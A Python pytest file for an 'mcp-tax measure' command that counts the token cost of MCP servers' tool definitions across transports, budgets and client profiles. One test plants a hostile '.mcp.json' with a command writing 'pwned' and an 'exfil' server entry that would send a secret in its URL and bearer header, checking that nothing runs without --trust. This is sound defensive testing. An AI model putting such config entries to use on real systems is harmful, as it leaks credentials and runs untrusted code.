"""`mcp-tax measure` against real servers: the example servers over stdio and Streamable HTTP, a
broken one, a missing placeholder, budgets and the three outputs. Expected figures are tiktoken's
count of the tools the MCP client fetched (support.oracle_tax), never the command's own."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest

from examples.servers.launch import serve_http
from tests.helpers import compact
from tests.mcptax.cli.support import (
    CL100K,
    ROOT,
    fetched,
    mcp_tax,
    oracle_instructions,
    oracle_tax,
    server_entry,
    write_config,
)

pytestmark = pytest.mark.timeout(300)


@pytest.fixture(scope="module")
def two_good_two_bad(tmp_path_factory):
    root = tmp_path_factory.mktemp("cfg")
    return write_config(
        root / "mcp.json",
        {
            "lean": server_entry("lean"),
            "sprawl": server_entry("sprawling"),
            "broken": {"command": str(root / "no-such-server")},
            "secret": {**server_entry("lean"), "env": {"API_KEY": "${MCP_TAX_TEST_UNSET_KEY}"}},
            "off": {"command": "never-started", "disabled": True},
        },
    )


def _servers(document):
    (stack,) = document["stacks"]
    return stack, {s["name"]: s for s in stack["servers"]}


def test_every_server_is_measured_and_a_broken_one_exits_2_without_losing_the_others(two_good_two_bad):
    run = mcp_tax("measure", str(two_good_two_bad), "--json")
    assert run.returncode == 2, run.stderr
    stack, servers = _servers(json.loads(run.stdout))
    assert servers["lean"]["status"] == servers["sprawl"]["status"] == "ok"
    assert servers["lean"]["fixed_tax_tokens"] == oracle_tax("lean")
    assert servers["sprawl"]["fixed_tax_tokens"] == oracle_tax("sprawling")
    assert servers["sprawl"]["instructions_tokens"] == oracle_instructions("sprawling")
    assert servers["sprawl"]["tools"] == len(fetched("sprawling").tools)
    assert servers["broken"]["status"] == "failed" and servers["broken"]["outcome"] == "connect_error"
    assert "no-such-server" in servers["broken"]["reason"]
    assert servers["secret"]["status"] == "not_measurable"
    assert "MCP_TAX_TEST_UNSET_KEY is not set" in servers["secret"]["reason"]
    assert servers["off"]["status"] == "disabled"
    assert stack["total"]["fixed_tax_tokens"] == oracle_tax("lean") + oracle_tax("sprawling")
    assert stack["total"]["measured"] == 2 and stack["total"]["servers"] == 5


def test_the_table_prints_each_server_the_total_and_why_the_others_were_not_measured(two_good_two_bad):
    run = mcp_tax("measure", str(two_good_two_bad), "--context-window", "100000")
    assert run.returncode == 2
    lines = run.stdout.splitlines()
    sprawl = next(line for line in lines if line.strip().startswith("sprawl "))
    tax = oracle_tax("sprawling")
    share = 100 * (tax + oracle_instructions("sprawling")) / 100_000
    assert f"{tax:,}" in sprawl and f"{share:.2f}%" in sprawl
    total = next(line for line in lines if line.strip().startswith("total"))
    assert "2 of 4 measured" in total and f"{oracle_tax('lean') + tax:,}" in total
    assert any("MCP_TAX_TEST_UNSET_KEY is not set" in line for line in lines)


def test_a_placeholder_set_in_the_environment_is_resolved_for_the_measurement(tmp_path):
    config = write_config(
        tmp_path / "mcp.json",
        {"lean": {**server_entry("lean"), "args": [*server_entry("lean")["args"], "--root", "${LEAN_ROOT}"]}},
    )
    run = mcp_tax("measure", str(config), "--json", env={"LEAN_ROOT": str(tmp_path)})
    assert run.returncode == 0, run.stdout + run.stderr
    _, servers = _servers(json.loads(run.stdout))
    assert servers["lean"]["fixed_tax_tokens"] == oracle_tax("lean")


def test_budgets_exit_0_within_and_1_over(tmp_path):
    config = write_config(
        tmp_path / "mcp.json", {"lean": server_entry("lean"), "sprawl": server_entry("sprawling")}
    )
    total = oracle_tax("lean") + oracle_tax("sprawling")
    assert mcp_tax("measure", str(config), "--budget", str(total)).returncode == 0

    over = mcp_tax("measure", str(config), "--budget", str(total - 1), "--json")
    assert over.returncode == 1
    stack, _ = _servers(json.loads(over.stdout))
    assert stack["over_budget"] is True

    per_server = mcp_tax(
        "measure", str(config), "--budget-server", str(oracle_tax("sprawling") - 1), "--json"
    )
    assert per_server.returncode == 1
    _, servers = _servers(json.loads(per_server.stdout))
    assert servers["sprawl"]["over_budget"] is True and servers["lean"]["over_budget"] is False
    assert mcp_tax("measure", str(config), "--budget-server", str(oracle_tax("sprawling"))).returncode == 0


def test_a_streamable_http_server_is_measured_over_every_tools_list_page(tmp_path):
    with serve_http("sprawling", "--page-size", "4", "--root", str(tmp_path)) as url:
        run = mcp_tax("measure", "--url", url, "--json")
    assert run.returncode == 0, run.stdout + run.stderr
    _, servers = _servers(json.loads(run.stdout))
    (server,) = servers.values()
    assert server["transport"] == "http"
    assert server["pages"] == 4  # 15 tools, 4 a page
    assert server["fixed_tax_tokens"] == oracle_tax("sprawling")


def test_stdio_on_the_command_line_and_a_config_are_measured_side_by_side(tmp_path):
    config = write_config(tmp_path / "mcp.json", {"lean": server_entry("lean")})
    entry = server_entry("sprawling")
    command = " ".join([entry["command"], *entry["args"]])
    run = mcp_tax("measure", str(config), "--stdio", command, "--json")
    assert run.returncode == 0, run.stderr
    stacks = json.loads(run.stdout)["stacks"]
    assert [s["name"] for s in stacks] == [str(config), "command line"]
    assert stacks[1]["total"]["fixed_tax_tokens"] == oracle_tax("sprawling")


def test_markdown_is_one_pr_comment_with_a_marker_and_a_row_per_server(two_good_two_bad):
    run = mcp_tax("measure", str(two_good_two_bad), "--markdown", "--budget", "100000")
    assert run.returncode == 2
    lines = run.stdout.splitlines()
    assert lines[0] == "<!-- mcp-tax-measure -->"
    lean = next(line for line in lines if line.startswith("| `lean`"))
    assert f"| {oracle_tax('lean'):,} |" in lean
    assert any(line.startswith("| `broken` |") and "failed (connect_error)" in line for line in lines)
    assert any(line.startswith("- `secret`:") for line in lines)
    assert "budget 100,000 tokens per config" in run.stdout


def test_an_unreadable_config_is_reported_and_exits_2(tmp_path):
    bad = tmp_path / "mcp.json"
    bad.write_text('{"servers": 3}')
    run = mcp_tax("measure", str(bad), str(tmp_path / "missing.json"))
    assert run.returncode == 2
    assert "no MCP server list found" in run.stdout
    assert "missing.json" in run.stdout and "No such file" in run.stdout


def test_measure_without_any_input_is_a_usage_error():
    run = mcp_tax("measure")
    assert run.returncode == 2
    assert "measure needs a CONFIG" in run.stderr


def test_a_profile_and_an_encoding_count_the_tools_as_that_client_sends_them(tmp_path):
    from tests.helpers import compact, tiktoken_reference

    config = write_config(tmp_path / "mcp.json", {"lean": server_entry("lean")})
    run = mcp_tax("measure", str(config), "--json", "--profile", "claude", "--encoding", "o200k_base")
    assert run.returncode == 0, run.stderr
    document = json.loads(run.stdout)
    assert (document["encoding"], document["profile"]) == ("o200k_base", "claude")
    (server,) = document["stacks"][0]["servers"]
    # Claude Code's rendering, written out here: the qualified name and `input_schema`.
    rendered = []
    for tool in fetched("lean").tools:
        entry = {"name": f"mcp__lean__{tool['name']}"}
        if "description" in tool:
            entry["description"] = tool["description"]
        entry["input_schema"] = tool.get("inputSchema", {"type": "object"})
        rendered.append(entry)
    assert server["fixed_tax_tokens"] == len(
        tiktoken_reference("o200k_base").encode_ordinary(compact(rendered))
    )
    assert server["fixed_tax_tokens"] != oracle_tax("lean")
    table = mcp_tax("measure", str(config), "--profile", "claude", "--encoding", "o200k_base")
    assert "o200k_base, claude profile" in table.stdout


def test_a_server_off_the_fast_path_is_measured_again_through_the_sdk(tmp_path):
    """One asks the client a question first (only the SDK answers those): measured exactly, as the
    SDK fetched it. One writes a line that is not JSON: reported as the SDK reports it."""
    from mcptax.client import ServerTarget
    from tests.helpers import compact
    from tests.mcptax.client.support import fetch

    asks = [sys.executable, str(ROOT / "tests" / "servers" / "asks_first.py")]
    config = write_config(
        tmp_path / "mcp.json",
        {
            "asks": {"command": asks[0], "args": asks[1:]},
            "garbled": server_entry("misbehaving", "--mode", "invalid_json"),
        },
    )
    run = mcp_tax("measure", str(config), "--json")
    assert run.returncode == 2, run.stderr
    _, servers = _servers(json.loads(run.stdout))
    reference = fetch(ServerTarget("stdio", command=asks[0], args=asks[1:]), include_prompts_resources=False)
    visible = [{k: t[k] for k in ("name", "description", "inputSchema") if k in t} for t in reference.tools]
    assert servers["asks"]["status"] == "ok" and servers["asks"]["tools"] == 2
    assert servers["asks"]["fixed_tax_tokens"] == len(CL100K.encode_ordinary(compact(visible)))
    assert servers["garbled"]["outcome"] == "protocol_error"
    assert "not a JSON-RPC message" in servers["garbled"]["reason"]


def test_an_opencode_config_is_measured_with_its_env_placeholder_resolved(tmp_path):
    entry = server_entry("lean")
    config = tmp_path / "opencode.jsonc"
    local = {
        "type": "local",
        "command": [entry["command"], *entry["args"], "--root", "{env:LEAN_ROOT}"],
        "environment": entry["env"],
    }
    config.write_text(
        "// opencode\n" + json.dumps({"mcp": {"lean": local, "off": {**local, "enabled": False}}})
    )
    run = mcp_tax("measure", str(config), "--json", env={"LEAN_ROOT": str(tmp_path)})
    assert run.returncode == 0, run.stdout + run.stderr
    _, servers = _servers(json.loads(run.stdout))
    assert servers["lean"]["fixed_tax_tokens"] == oracle_tax("lean")
    assert servers["off"]["status"] == "disabled"
    missing = {k: v for k, v in os.environ.items() if k != "LEAN_ROOT"}
    gone = subprocess.run(
        [sys.executable, "-m", "mcptax", "measure", str(config), "--json", "--trust"],
        capture_output=True,
        text=True,
        env={**missing, "PYTHONPATH": str(ROOT)},
        cwd=ROOT,
        timeout=240,
    )
    assert gone.returncode == 2
    _, servers = _servers(json.loads(gone.stdout))
    assert servers["lean"]["status"] == "not_measurable"
    assert "{env:LEAN_ROOT}: environment variable LEAN_ROOT is not set" in servers["lean"]["reason"]


def _claude_tax(module: str) -> int:
    """The module's tools as Claude Code renders them (the `claude` profile), written out here."""
    rendered = []
    for tool in fetched(module).tools:
        entry = {"name": f"mcp__{module}__{tool['name']}"}
        if "description" in tool:
            entry["description"] = tool["description"]
        entry["input_schema"] = tool.get("inputSchema", {"type": "object"})
        rendered.append(entry)
    return len(CL100K.encode_ordinary(compact(rendered)))


def test_client_claude_code_reports_the_mode_the_auto_verdict_and_each_modes_upfront(tmp_path):
    from mcptax.loading import CLAUDE_CODE_TOOL_SEARCH

    config = tmp_path / ".claude.json"
    config.write_text(
        json.dumps(
            {
                "env": {"ENABLE_TOOL_SEARCH": "auto:10"},
                "mcpServers": {
                    "lean": {**server_entry("lean"), "alwaysLoad": True},
                    "sprawling": server_entry("sprawling"),
                },
            }
        )
    )
    run = mcp_tax("measure", str(config), "--client", "claude-code", "--json", "--context-window", "2000")
    assert run.returncode == 0, run.stderr
    document = json.loads(run.stdout)
    assert (document["client"], document["profile"]) == ("claude-code", "claude")
    loading = document["stacks"][0]["loading"]
    instructions = oracle_instructions("lean") + oracle_instructions("sprawling")
    eager = _claude_tax("lean") + _claude_tax("sprawling") + instructions
    names = "".join(f"mcp__sprawling__{t['name']}\n" for t in fetched("sprawling").tools)
    listing = "<available-deferred-tools>\n" + names + "</available-deferred-tools>"
    deferred = (
        _claude_tax("lean")  # alwaysLoad: its schemas stay in every request
        + len(CL100K.encode_ordinary(listing))
        + len(CL100K.encode_ordinary(compact(CLAUDE_CODE_TOOL_SEARCH)))
        + instructions
    )
    assert loading["modes"]["eager"]["upfront"] == eager
    assert loading["modes"]["deferred"]["upfront"] == deferred
    # auto:10 of a 2,000-token window is 200 tokens; only the deferrable server's schemas count.
    assert loading["threshold"]["threshold_tokens"] == 200
    assert loading["threshold"]["deferrable_tokens"] == _claude_tax("sprawling") > 200
    assert loading["threshold"]["crosses"] is True and loading["threshold"]["verdict"] == "defers"
    assert (loading["mode"], loading["upfront"], loading["setting"]) == ("deferred", deferred, "auto:10")
    by_server = {s["server"]: s for s in loading["servers"]}
    assert by_server["lean"]["mode"] == "eager" and by_server["lean"]["always_load"] is True
    assert sum(s["upfront"] for s in loading["servers"]) == deferred

    # The command line's setting wins over the config's; a big window keeps auto eager.
    off = json.loads(
        mcp_tax("measure", str(config), "--client", "claude-code", "--json", "--tool-search", "false").stdout
    )["stacks"][0]["loading"]
    assert (off["mode"], off["upfront"]) == ("eager", eager)
    auto = json.loads(mcp_tax("measure", str(config), "--client", "claude-code", "--json").stdout)
    assert auto["stacks"][0]["loading"]["threshold"]["crosses"] is False
    assert auto["stacks"][0]["loading"]["threshold"]["verdict"] == "stays eager"
    assert auto["stacks"][0]["loading"]["mode"] == "eager"


def test_markdown_with_a_client_shows_the_modes_and_the_instructions_advice(tmp_path):
    config = write_config(tmp_path / "mcp.json", {"lean": server_entry("lean")})
    run = mcp_tax("measure", str(config), "--client", "claude-code", "--markdown")
    assert run.returncode == 0, run.stderr
    assert "**Loading (claude-code):** deferred" in run.stdout
    assert "| eager |" in run.stdout and "| deferred |" in run.stdout
    if not fetched("lean").instructions:
        assert "Add server instructions" in run.stdout
    bad = mcp_tax("measure", str(config), "--client", "cursor", "--tool-search", "true")
    assert bad.returncode == 2 and "has no setting" in bad.stderr
    # A budget on the upfront figure of the client's mode: deferred, lean's name list and ToolSearch.
    from mcptax.loading import CLAUDE_CODE_TOOL_SEARCH

    names = "".join(f"mcp__lean__{t['name']}\n" for t in fetched("lean").tools)
    upfront = (
        len(CL100K.encode_ordinary("<available-deferred-tools>\n" + names + "</available-deferred-tools>"))
        + len(CL100K.encode_ordinary(compact(CLAUDE_CODE_TOOL_SEARCH)))
        + oracle_instructions("lean")
    )
    for limit, code in ((upfront, 0), (upfront - 1, 1)):
        run = mcp_tax(
            "measure", str(config), "--client", "claude-code", "--json", "--budget-upfront", str(limit)
        )
        assert run.returncode == code, run.stderr
        assert json.loads(run.stdout)["stacks"][0]["loading"]["upfront"] == upfront


def test_an_untrusted_config_runs_nothing_and_leaks_no_secret_without_trust(tmp_path):
    """A pull request's `.mcp.json` in CI: without --trust its stdio command never runs and its
    `${SECRET}` never leaves for its URL; what would have run is printed."""
    from tests.helpers import Receiver

    marker = tmp_path / "ran"
    planted = [sys.executable, "-c", f"open({str(marker)!r}, 'w').write('pwned')"]
    with Receiver() as receiver:
        config = write_config(
            tmp_path / "repo" / ".mcp.json",
            {
                "build": {"command": planted[0], "args": planted[1:]},
                "exfil": {
                    "type": "http",
                    "url": f"http://127.0.0.1:{receiver.port}/mcp?k=${{SECRET_FOR_TEST}}",
                    "headers": {"Authorization": "Bearer ${SECRET_FOR_TEST}"},
                },
            },
        )
        run = mcp_tax("measure", str(config), "--json", env={"SECRET_FOR_TEST": "s3cr3t-value"}, trust=False)
        assert receiver.requests == []  # not contacted at all
    assert not marker.exists()  # the command never ran
    assert run.returncode == 2, run.stdout + run.stderr
    _, servers = _servers(json.loads(run.stdout))
    assert servers["build"]["status"] == servers["exfil"]["status"] == "not_measurable"
    assert "--trust" in servers["build"]["reason"] and "--trust" in servers["exfil"]["reason"]
    assert f"skipped build ({config}): not started: it would run `{planted[0]} -c" in run.stderr
    assert "s3cr3t-value" not in run.stdout + run.stderr


def test_trust_or_a_trusted_command_list_lets_a_config_run_and_says_what_runs(tmp_path):
    config = write_config(tmp_path / "repo" / ".mcp.json", {"lean": server_entry("lean")})
    command = json.loads(config.read_text())["mcpServers"]["lean"]["command"]
    listed = tmp_path / "trusted-commands.txt"
    listed.write_text(f"# what CI may start\n{command}\n")
    for extra in (["--trust"], ["--trust-commands", str(listed)]):
        run = mcp_tax("measure", str(config), "--json", *extra, trust=False)
        assert run.returncode == 0, run.stdout + run.stderr
        _, servers = _servers(json.loads(run.stdout))
        assert servers["lean"]["fixed_tax_tokens"] == oracle_tax("lean")
        assert f"running: {command} " in run.stderr


@pytest.mark.parametrize("encoding", ["cl100k_base", "o200k_base"])
def test_measure_counts_without_reading_tiktokens_rank_file(tmp_path, encoding):
    # cl100k and o200k are counted by the compiled tokenizer: tiktoken's rank file (a tenth of a
    # second of every run) is never read, in the eager figures, the modes or the advice.
    config = write_config(tmp_path / ".claude.json", {"lean": server_entry("lean")})
    watch = (
        "import runpy, sys, tiktoken\n"
        "built = tiktoken.Encoding.__init__\n"
        "def noted(self, *args, **kwargs):\n"
        "    print('RANK FILE READ', kwargs.get('name'), file=sys.stderr)\n"
        "    built(self, *args, **kwargs)\n"
        "tiktoken.Encoding.__init__ = noted\n"
        "sys.argv = ['mcp-tax', *sys.argv[1:]]\n"
        "runpy.run_module('mcptax', run_name='__main__')\n"
    )
    argv = ["measure", str(config), "--client", "claude-code", "--encoding", encoding, "--json", "--trust"]
    run = subprocess.run(
        [sys.executable, "-c", watch, *argv],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        cwd=ROOT,
        timeout=240,
    )
    assert run.returncode == 0, run.stderr
    assert "RANK FILE READ" not in run.stderr
    document = json.loads(run.stdout)
    (stack,) = document["stacks"]
    assert document["encoding"] == encoding and stack["servers"][0]["status"] == "ok"
    assert stack["servers"][0]["fixed_tax_tokens"] > 0 and stack["loading"]["modes"]
